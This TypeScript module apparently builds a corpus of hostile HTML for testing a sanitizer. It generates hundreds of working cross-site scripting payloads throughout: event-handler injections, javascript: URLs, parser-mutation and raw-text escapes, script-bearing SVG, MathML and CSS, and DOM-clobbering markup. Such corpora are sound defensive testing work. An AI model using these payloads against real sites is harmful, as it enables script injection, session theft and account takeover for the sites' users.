import {CLOBBERED_NAMES} from './clobbered-names.js';
import {HOSTILE_URLS, type Payload} from './hostile-urls.js';

const HANDLERS =
  'onclick onerror onload onfocus onfocusin onblur onmouseover onpointerenter onpointerrawupdate onanimationstart onanimationend ' +
  'ontransitionend ontoggle onbeforetoggle onbeforematch onscroll onscrollend onscrollsnapchange onwheel oncut onpaste ' +
  'onbeforeinput oninvalid onsearch oncontentvisibilityautostatechange onsecuritypolicyviolation onresize onhashchange ' +
  'onmessage onpageshow onunload onbegin onend onrepeat onselectstart ontouchstart onloadstart onsuspend onstalled ' +
  'onauxclick onfullscreenchange onwebkitanimationstart ONCLICK oNeRrOr';

const HANDLED = 'p img a details video audio svg body input marquee iframe object math select form button';

/** Every handler on every kind of element, in the ways in which a tag can hide it. */
const handlers = HANDLERS.split(' ').flatMap((handler): Payload[] => [
  ...HANDLED.split(' ').map(
    (name): Payload =>
      (boom) =>
        `<${name} src=x ${handler}=${boom}()>text</${name}>`,
  ),
  (boom) => `<p title="a"${handler}="${boom}()">x</p>`,
  (boom) => `<p/${handler}=${boom}()>x</p>`,
  (boom) => `<p title=a\t\n${handler}\n=\n'${boom}()' autofocus tabindex=0>x</p>`,
  (boom) => `<details open ${handler}=${boom}()><summary>x</summary></details>`,
]);

const encode = (text: string): string =>
  text.replaceAll('&', '&amp;').replaceAll('"', '&quot;').replaceAll('\u0000', '&#0;');
const entities = (text: string): string =>
  [...text].map((letter) => `&#x${letter.codePointAt(0)!.toString(16)};`).join('');

/** Where HTML has addresses. */
const ADDRESSED: readonly ((url: string) => string)[] = [
  (url) => `<a target=_blank href='${encode(url).replaceAll("'", '&#39;')}'>x</a>`,
  (url) => `<img src="${encode(url)}" alt="x">`,
  (url) => `<img srcset="${encode(url)} 2x, ${encode(url)}">`,
  (url) =>
    `<video poster="${encode(url)}" src="${encode(url)}"><source src="${encode(url)}"><track src="${encode(url)}"></video>`,
  (url) => `<blockquote cite="${encode(url)}">x</blockquote>`,
  (url) =>
    `<area href="${encode(url)}"><form action="${encode(url)}"><button formaction="${encode(url)}">x</button></form>`,
  (url) => `<svg><a xlink:href="${encode(url)}"><text>x</text></a><use href="${encode(url)}"/></svg>`,
  (url) => `<math><mtext href="${encode(url)}" xlink:href="${encode(url)}">x</mtext></math>`,
  (url) => `<iframe src="${encode(url)}"></iframe><object data="${encode(url)}"></object><embed src="${encode(url)}">`,
  (url) => `<meta http-equiv=refresh content="0;url=${encode(url)}"><base href="${encode(url)}"><a href="">x</a>`,
];

/** Every address in a link, written out and in references, and in one other place by turns. */
const addresses = HOSTILE_URLS.flatMap((url, index): Payload[] => [
  (boom) => `<a href="${encode(url(boom))}">x</a>`,
  (boom) => `<a href="${entities(url(boom))}">x</a>`,
  (boom) => ADDRESSED[index % ADDRESSED.length]!(url(boom)),
]);

/** What a text goes through before it comes to an element whose content is read by other rules. */
const WRAPPERS: readonly (readonly [start: string, end: string])[] = [
  ['', ''],
  ['<svg>', '</svg>'],
  ['<svg></p>', '</svg>'],
  ['<math>', '</math>'],
  ['<svg><foreignObject>', '</foreignObject></svg>'],
  ['<svg><desc>', '</desc></svg>'],
  ['<svg><title>', '</title></svg>'],
  ['<math><mtext>', '</mtext></math>'],
  ['<math><mtext><table><mglyph>', '</mglyph></table></mtext></math>'],
  ['<math><mi><mglyph>', '</mi></math>'],
  ['<math><annotation-xml encoding="text/html">', '</annotation-xml></math>'],
  ['<math><annotation-xml encoding="application/xhtml+xml"><svg>', '</svg></annotation-xml></math>'],
  ['<form><math><mtext></form><form><mglyph>', '</math></form>'],
  ['<table><td><svg><p><table>', '</table></svg></table>'],
  ['<select><option>', '</option></select>'],
  ['<template>', '</template>'],
];

const RAW = 'style title textarea xmp iframe noembed noframes noscript script';

/** How the raw text is left too early, or not. */
const ESCAPES: readonly ((name: string, boom: string) => string)[] = [
  (name, boom) => `<${name}><a id="</${name}><img src=1 onerror=${boom}()>">`,
  (name, boom) => `<${name}><!--</${name}><img title="--&gt;&lt;img src=1 onerror=${boom}()&gt;">`,
  (name, boom) => `<${name}><img src=1 onerror=${boom}()></${name}>`,
  (name, boom) => `<${name}><![CDATA[</${name}><img src=1 onerror=${boom}()>]]></${name}>`,
  (name, boom) => `<${name}>&lt;/${name}&gt;&lt;img src=1 onerror=${boom}()&gt;</${name}>`,
];

/** Texts that a second parser reads as something else than the first. */
const mutations: readonly Payload[] = [
  ...WRAPPERS.flatMap(([start, end]) =>
    RAW.split(' ').flatMap((name) =>
      ESCAPES.map(
        (escape): Payload =>
          (boom) =>
            `${start}${escape(name, boom)}${end}`,
      ),
    ),
  ),
  (boom) => `<math><mtext><table><mglyph><style><math><table id="</table>"><img src onerror=${boom}()">`,
  (boom) => `<template shadowrootmode=open><img src=x onerror=${boom}()></template>`,
  (boom) => `<div><template shadowrootmode=closed><script>${boom}()</script></template></div>`,
  (boom) => `<plaintext><img src=x onerror=${boom}()>`,
  (boom) => `<style><style/><img src=x onerror=${boom}()>`,
  (boom) => `<select><template><style><!--</style><a rel="--></style></template></select><img src onerror=${boom}()>">`,
  (boom) => `<a><table><a href="javascript:${boom}()">x</a></table></a>`,
  (boom) => `<!--><img src=x onerror=${boom}()>-->`,
  (boom) => `<!---><img src=x onerror=${boom}()>-->`,
  (boom) => `<!--!><img src=x onerror=${boom}()>-->`,
  (boom) => `<!-- --!><img src=x onerror=${boom}()>-->`,
  (boom) => `<![CDATA[<img src=x onerror=${boom}()>]]>`,
  (boom) => `<?xml-stylesheet href="javascript:${boom}()"?><img src=x onerror=${boom}()>`,
  (boom) => `<image src=x onerror=${boom}()>`,
  (boom) => `<p id="</p><script>${boom}()</script>"><a href="#</p><script>${boom}()</script>">x</a>`,
  (boom) => `<p title="&lt;/p&gt;&lt;img src=x onerror=${boom}()&gt;" lang="&quot; onclick=${boom}()">x</p>`,
  (boom) => `&lt;script&gt;${boom}()&lt;/script&gt;`,
  (boom) => `<p>&lt;img src=x onerror=${boom}()&gt;</p>`,
  (boom) => `&amp;lt;img src=x onerror=${boom}()&amp;gt;`,
  (boom) => `\u0000<scr\u0000ipt>${boom}()</scr\u0000ipt>`,
  (boom) => `<<script>${boom}()//<</script>`,
  (boom) => `<scr<script>ipt>${boom}()</scr</script>ipt>`,
  (boom) => `<img src=x${'\u0009\u000c'}onerror${'\u000c'}=${boom}()>`,
  (boom) => `\ufeff<img\u000bsrc=x onerror=${boom}()>`,
  (boom) => `"><img src=x onerror=${boom}()>`,
  (boom) => `'-${boom}()-'`,
  (boom) => `\${${boom}()}`,
  (boom) => `{{constructor.constructor('${boom}()')()}}`,
  (boom) => `</article-card></article-related><script>${boom}()</script>`,
  (boom) => `</script><script>${boom}()</script>`,
  (boom) => `<!--?lit$1$--><script>${boom}()</script>`,
];

/** Elements that reach out of the text by themselves. */
const elements: readonly Payload[] = [
  (boom) => `<script>${boom}()</script>`,
  (boom) => `<script src=data:,${boom}()></script>`,
  (boom) => `<script type=module>${boom}()</script>`,
  (boom) => `<script type=importmap>{"imports": {"lit": "data:,${boom}()"}}</script>`,
  (boom) => `<script type=speculationrules>{"prefetch": [{"urls": ["/${boom}"]}]}</script>`,
  (boom) => `<meta http-equiv=refresh content="0;url=https://example.org/${boom}">`,
  () => '<meta http-equiv=content-security-policy content="default-src *">',
  () => '<meta name=referrer content=unsafe-url>',
  () => '<base href="https://example.org/"><a href="x">x</a>',
  () => '<base target=_top>',
  (boom) => `<link rel=stylesheet href="data:text/css,*{}" onload=${boom}()>`,
  (boom) => `<link rel=import href="data:text/html,<script>${boom}()</script>">`,
  (boom) => `<link rel=prefetch href="https://example.org/${boom}"><link rel=modulepreload href="/${boom}.js">`,
  (boom) => `<iframe srcdoc="<script>parent.${boom}()</script>"></iframe>`,
  (boom) => `<iframe src="data:text/html,<script>parent.${boom}()</script>" sandbox=allow-scripts></iframe>`,
  (boom) => `<object data="data:text/html,<script>${boom}()</script>"></object>`,
  (boom) => `<embed src="data:text/html,<script>${boom}()</script>">`,
  () => '<applet code=x></applet>',
  (boom) => `<frameset onload=${boom}()><frame src="javascript:${boom}()"></frameset>`,
  (boom) => `<form action="javascript:${boom}()"><input type=submit><input name=action></form>`,
  (boom) => `<button form=x formaction="javascript:${boom}()" type=submit>x</button><form id=x></form>`,
  (boom) => `<input autofocus onfocus=${boom}()>`,
  (boom) => `<input type=image src=x onerror=${boom}()>`,
  (boom) => `<button popovertarget=x>x</button><div popover id=x onbeforetoggle=${boom}()>x</div>`,
  (boom) => `<button command=show-modal commandfor=x>x</button><dialog id=x oncommand=${boom}()>x</dialog>`,
  (boom) => `<dialog open onclose=${boom}()><form method=dialog><button>x</button></form></dialog>`,
  (boom) => `<x-element onclick=${boom}()>x</x-element>`,
  () => '<p is=x-element>x</p>',
  (boom) => `<article-view article='{"headline": "x", "body": "<img src=x onerror=${boom}()>"}'></article-view>`,
  (boom) => `<article-related src="https://example.org/${boom}"></article-related>`,
  (boom) => `<div data-article-widget=body data-src="https://example.org/${boom}">x</div>`,
  (boom) => `<isindex action=javascript:${boom}() type=image>`,
  (boom) => `<keygen autofocus onfocus=${boom}()>`,
  (boom) => `<bgsound src=javascript:${boom}()><layer src=javascript:${boom}()></layer>`,
  (boom) => `<portal src=javascript:${boom}()></portal><fencedframe src=javascript:${boom}()></fencedframe>`,
  (boom) => `<canvas></canvas><map name=x><area href=javascript:${boom}()></map>`,
  (boom) => `<slot name=text onslotchange=${boom}()></slot>`,
  () => '<p slot=error data-x=1 aria-label=x class=x part=x nonce=x contenteditable tabindex=0 accesskey=x>x</p>',
  (boom) => `<a href=https://example.org ping=https://example.org/${boom} attributionsrc=x download=x>x</a>`,
  () => '<img src=https://example.org/i.png crossorigin usemap=#x ismap referrerpolicy=unsafe-url fetchpriority=high>',
  () => '<a href=https://example.org target=_top rel="opener prefetch">x</a>',
  () => '<a href=https://example.org target=article>x</a>',
];

const STYLES = [
  'background:url(javascript:BOOM())',
  'background:url("data:text/html,<script>BOOM()</script>")',
  'background-image:image-set("https://example.org/BOOM" 1x)',
  'width:expression(BOOM())',
  'w\\69 dth:e\\78 pression(BOOM())',
  'behavior:url(#BOOM)',
  '-moz-binding:url(https://example.org/BOOM#x)',
  'position:fixed;inset:0;z-index:9999;background:white',
  'content:url(https://example.org/BOOM)',
  'list-style:url(https://example.org/BOOM)',
  'cursor:url(https://example.org/BOOM),auto',
  'filter:url(https://example.org/BOOM#x)',
  'animation:x 1s',
  '--x:</style><script>BOOM()</script>',
];

/** Styles that load, cover or were once scripts, in each place where HTML has styles. */
const styles = STYLES.flatMap((style): Payload[] => {
  const of = (boom: string) => style.replaceAll('BOOM', boom);
  return [
    (boom) => `<p style='${of(boom)}'>x</p>`,
    (boom) => `<style>@keyframes x {} * {${of(boom)}}</style><p>x</p>`,
    (boom) => `<style>@import "https://example.org/${boom}"; p {${of(boom)}}</style>`,
    (boom) => `<svg><style>* {${of(boom)}}</style><rect style='${of(boom)}'/></svg>`,
    (boom) => `<link rel=stylesheet href='data:text/css,* {${encodeURIComponent(of(boom))}}'>`,
  ];
});

/** Drawings and formulas that run, load or lead somewhere. */
const drawings: readonly Payload[] = [
  (boom) => `<svg><script>${boom}()</script></svg>`,
  (boom) => `<svg><script href="data:,${boom}()"></script></svg>`,
  (boom) => `<svg><script xlink:href="data:,${boom}()"></script></svg>`,
  (boom) => `<svg onload=${boom}()><g onload=${boom}()></g></svg>`,
  (boom) => `<svg><animate onbegin=${boom}() attributeName=x dur=1s></svg>`,
  (boom) => `<svg><animate attributeName=href values=javascript:${boom}() /><a id=x><text>x</text></a></svg>`,
  (boom) => `<svg><a><animate attributeName=href to=javascript:${boom}() begin=0s /><text>x</text></a></svg>`,
  (boom) => `<svg><a xlink:href="?"><set attributeName=xlink:href to=javascript:${boom}() /><text>x</text></a></svg>`,
  (boom) => `<svg><set attributeName=onmouseover to=${boom}() /></svg>`,
  (boom) => `<svg><image href=x onerror=${boom}() /></svg>`,
  (boom) =>
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${boom}()'/></svg>#x" /></svg>`,
  (boom) => `<svg><foreignObject><iframe srcdoc="<script>parent.${boom}()</script>"></iframe></foreignObject></svg>`,
  (boom) => `<svg><foreignObject><body onload=${boom}()></foreignObject></svg>`,
  (boom) => `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>${boom}()</handler></svg>`,
  (boom) => `<svg><discard onbegin=${boom}() /><feImage href="https://example.org/${boom}" /></svg>`,
  (boom) => `<svg><text><textPath xlink:href=javascript:${boom}()>x</textPath></text></svg>`,
  (boom) => `<svg><mpath href=javascript:${boom}() /><cursor xlink:href=https://example.org/${boom} /></svg>`,
  (boom) => `<svg><template><img src=x onerror=${boom}()></template></svg>`,
  (boom) => `<svg xmlns:h="http://www.w3.org/1999/xhtml"><h:script>${boom}()</h:script></svg>`,
  (boom) => `<math href=javascript:${boom}()>x</math>`,
  (boom) => `<math><maction actiontype=statusline xlink:href=javascript:${boom}()>x</maction></math>`,
  (boom) =>
    `<math><semantics><annotation-xml encoding=text/html><img src=x onerror=${boom}()></annotation-xml></semantics></math>`,
  (boom) => `<math><mtext><img src=x onerror=${boom}()></mtext></math>`,
  (boom) => `<math><mglyph src=javascript:${boom}() /><mi xlink:href=data:text/html,${boom}>x</mi></math>`,
];

/** Names by which an element stands in the way of a script of the page. */
const clobbering = CLOBBERED_NAMES.flatMap((name): Payload[] => [
  () => `<a id=${name} name=${name} href=https://example.org>x</a>`,
  () => `<img name=${name} id=${name} src=https://example.org/x.png>`,
  () => `<form id=${name} name=${name}><input name=attributes><input name=${name}><input id=${name}></form>`,
  () => `<p id=${name}>x</p><p id=${name}>y</p><a href=#${name}>z</a>`,
  () => `<embed name=${name}><object id=${name} name=${name}></object><iframe name=${name}></iframe>`,
]);

/** Everything above by the name of its kind. */
export const HOSTILE_HTML: Readonly<Record<string, readonly Payload[]>> = {
  handlers,
  addresses,
  mutations,
  elements,
  styles,
  drawings,
  clobbering,
};
